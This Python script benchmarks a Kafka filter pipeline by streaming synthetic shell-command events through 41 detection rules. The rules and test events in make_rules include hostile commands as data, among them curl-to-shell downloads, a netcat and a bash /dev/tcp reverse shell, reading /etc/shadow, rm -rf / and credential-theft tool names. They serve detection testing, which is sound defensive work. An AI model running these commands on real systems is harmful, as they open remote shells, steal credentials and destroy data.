#!/usr/bin/env python3
"""Kafka -> filter (41 rules) -> Kafka, end to end through `etl run`, against a local broker.

    .venv/bin/python bench/kafka.py --events 200000 --rate 20000
    .venv/bin/python bench/kafka.py --events 200000 --rate 20000 --bootstrap 127.0.0.1:9092

Without --bootstrap a single-node KRaft broker is started from java/lib/kafka (tests/servers,
scripts/setup-java.sh). The pipeline runs continuously (trigger --trigger) with the exactly-once
kafka sink (one transaction per micro-batch). After a warm-up (events that must come out the
other side), --events JSON events are produced at --rate events/s; about 2.5 % of them match a
rule. Every event carries the wall-clock time it was produced; latency = time the consumer
(read_committed) receives it - that time. Throughput = events / (last output received - first
event produced).

Last line: kafka events=M rate=R events_per_s=X p50_latency_ms=P p99_latency_ms=Q
"""

from __future__ import annotations

import argparse
import json
import os
import random
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

SAFE = ["ls -la /var/log", "cat /etc/hostname", "grep -r TODO src/", "tar czf backup.tgz data/", "git pull --rebase",
        "docker ps -a", "kubectl get pods -n web", "systemctl status nginx", "df -h", "du -sh /home/*",
        "python3 manage.py migrate", "make -j2 build", "vim notes.txt", "journalctl -u app --since today"]
USERS = ["alice", "bob", "carol", "deploy", "ci", "build", "root"]
HOSTS = ["web-1", "web-2", "db-1", "cache-1", "batch-3"]


def make_rules() -> tuple[list[dict], list[str]]:
    """41 rules (regex, contains, starts_with, in, eq, caseless, nested any/all/not) and, for each
    of the first 20, a command line that matches it (the suspicious events)."""
    rules: list[dict] = []
    hits: list[str] = []
    families = [
        (r"curl\s.*\|\s*(ba|z)?sh", "curl -s http://x.example/i.sh | sh"),
        (r"wget\s+https?://\S+\.(sh|py)\b", "wget http://x.example/p.py"),
        (r"\bnc\s+-e\s+/bin/(ba)?sh", "nc -e /bin/sh 10.0.0.9 4444"),
        (r"base64\s+(-d|--decode)", "echo aGk= | base64 -d"),
        (r"/etc/(passwd|shadow)", "cat /etc/shadow"),
        (r"chmod\s+\+x\s+/tmp/\w+", "chmod +x /tmp/payload"),
        (r"python[23]?\s+-c\s+.*socket", "python3 -c 'import socket'"),
        (r"\bnmap\s+-s[SV]", "nmap -sS 10.0.0.0/24"),
        (r"bash\s+-i\s+>&\s*/dev/tcp/", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
        (r"rm\s+-rf\s+/(\s|$)", "rm -rf / "),
        (r"\bcrontab\s+-r\b", "crontab -r"),
        (r"ssh\s+-R\s+\d+:", "ssh -R 8080:localhost:80 x@y"),
        (r"powershell.*-enc", "powershell -nop -enc SQBFAFgA"),
        (r"iptables\s+-F", "iptables -F"),
        (r"history\s+-c", "history -c"),
    ]
    for i, (rx, hit) in enumerate(families):
        rules.append({"id": f"r{i:02d}", "when": {"field": "cmd", "regex": rx}})
        hits.append(hit)
    for i, word in enumerate(["mimikatz", "LaZagne", "xmrig", "Rubeus", "kerbrute"]):
        rules.append({"id": f"tool-{i}", "when": {"field": "cmd", "contains": word.lower(), "caseless": True}})
        hits.append(f"./{word} --run")
    rules.append({"id": "ci-sudo", "when": {"all": [{"field": "user", "in": ["ci", "build"]},
                                                     {"field": "cmd", "starts_with": "sudo "}]}})
    hits.append(None)  # matched by user + cmd below
    for i in range(20):  # IOC literals and argument patterns that ordinary traffic never has
        tok = uuid.UUID(int=random.Random(i).getrandbits(128)).hex[:10]
        pred = {"field": "cmd", "regex": rf"{tok}\d+"} if i % 2 else {"field": "cmd", "contains": tok}
        rules.append({"id": f"ioc-{i:02d}", "when": {"all": [pred, {"not": {"field": "host", "eq": "honeypot"}}]}})
    assert len(rules) == 41
    return rules, [h for h in hits if h]


def pipeline_yaml(name: str, bootstrap: str, src: str, dst: str, rules: list[dict], trigger: str) -> str:
    lines = [
        f"name: {name}",
        "sources:",
        "  - " + json.dumps({"id": "commands", "type": "kafka", "bootstrap_servers": bootstrap, "topics": [src],
                             "starting_offsets": "earliest",
                             "schema": {"id": "bigint", "sent_ms": "bigint", "host": "string", "user": "string",
                                        "cmd": "string"}}),
        "transforms:",
        "  - id: suspicious",
        "    type: filter",
        "    input: commands",
        "    rules:",
        *[f"      - {json.dumps(r)}" for r in rules],
        "sinks:",
        "  - " + json.dumps({"id": "alerts", "type": "kafka", "input": "suspicious", "bootstrap_servers": bootstrap,
                             "topic": dst, "key": "cast(id AS string)"}),
        f"trigger: {{mode: interval, interval: {trigger}}}",
        "checkpoint: state/checkpoint",
    ]
    return "\n".join(lines) + "\n"


def produce(bootstrap: str, topic: str, events: int, rate: float, hits: list[str], first_id: int,
            started: list[float], expected: list[int]) -> None:
    from confluent_kafka import Producer

    rng = random.Random(42)
    p = Producer({"bootstrap.servers": bootstrap, "linger.ms": 2, "enable.idempotence": True,
                  "queue.buffering.max.messages": 1_000_000})
    t0 = time.monotonic()
    started.append(time.time())
    step = max(1, int(rate / 100))  # send in slices every 10 ms
    sent = 0
    while sent < events:
        n = min(step, events - sent)
        now_ms = int(time.time() * 1000)
        for i in range(n):
            eid = first_id + sent + i
            if rng.random() < 0.025:
                cmd, user = rng.choice(hits), rng.choice(USERS)
                expected.append(eid)
            else:
                cmd, user = rng.choice(SAFE), rng.choice(USERS)
            p.produce(topic, key=str(eid), value=json.dumps({"id": eid, "sent_ms": now_ms, "host": rng.choice(HOSTS),
                                                             "user": user, "cmd": cmd}))
        sent += n
        p.poll(0)
        ahead = t0 + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    p.flush(60)


def consume(bootstrap: str, topic: str, stop: threading.Event, got: dict[int, tuple[float, float]]) -> None:
    """got[id] = (latency ms, wall time received) of every output event."""
    from confluent_kafka import Consumer

    c = Consumer({"bootstrap.servers": bootstrap, "group.id": f"bench-{uuid.uuid4().hex[:6]}",
                  "auto.offset.reset": "earliest", "isolation.level": "read_committed", "enable.auto.commit": False})
    c.subscribe([topic])
    try:
        while not stop.is_set():
            for m in c.consume(10000, 0.2):
                if m.error() is None:
                    now = time.time()
                    ev = json.loads(m.value())
                    got.setdefault(ev["id"], (now * 1000 - ev["sent_ms"], now))
    finally:
        c.close()


def wait_for(pred, timeout: float, proc: subprocess.Popen, what: str) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return
        if proc.poll() is not None:
            raise SystemExit(f"etl run exited with {proc.returncode} while waiting for {what}")
        time.sleep(0.1)
    raise SystemExit(f"timed out after {timeout:.0f}s waiting for {what}")


def percentile(values: list[float], q: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(round(q / 100 * (len(s) - 1))))] if s else float("nan")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=200_000)
    ap.add_argument("--rate", type=float, default=20_000, help="events per second produced")
    ap.add_argument("--bootstrap", help="an existing broker (default: start one from java/lib/kafka)")
    ap.add_argument("--partitions", type=int, default=2)
    ap.add_argument("--trigger", default="500ms", help="micro-batch interval")
    ap.add_argument("--keep", action="store_true", help="keep the work folder")
    args = ap.parse_args()

    work = Path(tempfile.mkdtemp(prefix="etl-bench-kafka-"))
    server = None
    if args.bootstrap:
        bootstrap = args.bootstrap
    else:
        from tests.servers import KafkaServer

        server = KafkaServer(heap="1g", num_partitions=args.partitions)
        server.start()
        bootstrap = server.bootstrap_servers
        print(f"broker {bootstrap} started in {server.startup_seconds:.1f}s", file=sys.stderr)
    proc = None
    try:
        from confluent_kafka.admin import AdminClient, NewTopic

        suffix = uuid.uuid4().hex[:6]
        src, dst = f"bench-in-{suffix}", f"bench-out-{suffix}"
        admin = AdminClient({"bootstrap.servers": bootstrap})
        for f in admin.create_topics([NewTopic(t, args.partitions, 1) for t in (src, dst)]).values():
            f.result(30)
        rules, hits = make_rules()
        (work / "pipeline.yaml").write_text(pipeline_yaml(f"bench-kafka-{suffix}", bootstrap, src, dst, rules,
                                                          args.trigger))
        env = {**os.environ, "PYTHONPATH": str(REPO)}
        proc = subprocess.Popen([sys.executable, "-m", "etl", "run", "pipeline.yaml", "--progress", "json"],
                                cwd=work, env=env, stdout=subprocess.DEVNULL, stderr=open(work / "run.log", "w"),  # noqa: SIM115
                                start_new_session=True)
        got: dict[int, tuple[float, float]] = {}
        stop = threading.Event()
        reader = threading.Thread(target=consume, args=(bootstrap, dst, stop, got), daemon=True)
        reader.start()
        # warm-up: 2,000 events with ids below zero, until their matches come out
        warm: list[int] = []
        produce(bootstrap, src, 2000, 2000, hits, -10_000_000, [], warm)
        wait_for(lambda: all(i in got for i in warm), 600, proc, "the warm-up events")
        print(f"warm-up done: {len(warm)} matches through the pipeline", file=sys.stderr)
        expected: list[int] = []
        started: list[float] = []
        produce(bootstrap, src, args.events, args.rate, hits, 0, started, expected)
        produced_s = time.time() - started[0]
        wait_for(lambda: all(i in got for i in expected), 600, proc, "every matching event")
        lat = [got[i][0] for i in expected]
        end = max(got[i][1] for i in expected)  # wall time the last matching event was received
        stop.set()
        reader.join(5)
        want = set(expected)
        extra = len([i for i in got if i >= 0 and i not in want])
        events_per_s = args.events / max(end - started[0], 1e-9)
        print(f"produced {args.events} events in {produced_s:.1f}s; {len(expected)} matched, {extra} unexpected "
              f"outputs; latency min {min(lat):.0f} ms max {max(lat):.0f} ms", file=sys.stderr)
        print(f"kafka events={args.events} rate={args.rate:g} events_per_s={events_per_s:.0f} "
              f"p50_latency_ms={percentile(lat, 50):.0f} p99_latency_ms={percentile(lat, 99):.0f}")
    finally:
        if proc is not None and proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(60)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
        if server is not None:
            server.cleanup()
        if not args.keep:
            import shutil

            shutil.rmtree(work, ignore_errors=True)
        else:
            print(f"work folder: {work}", file=sys.stderr)


if __name__ == "__main__":
    main()
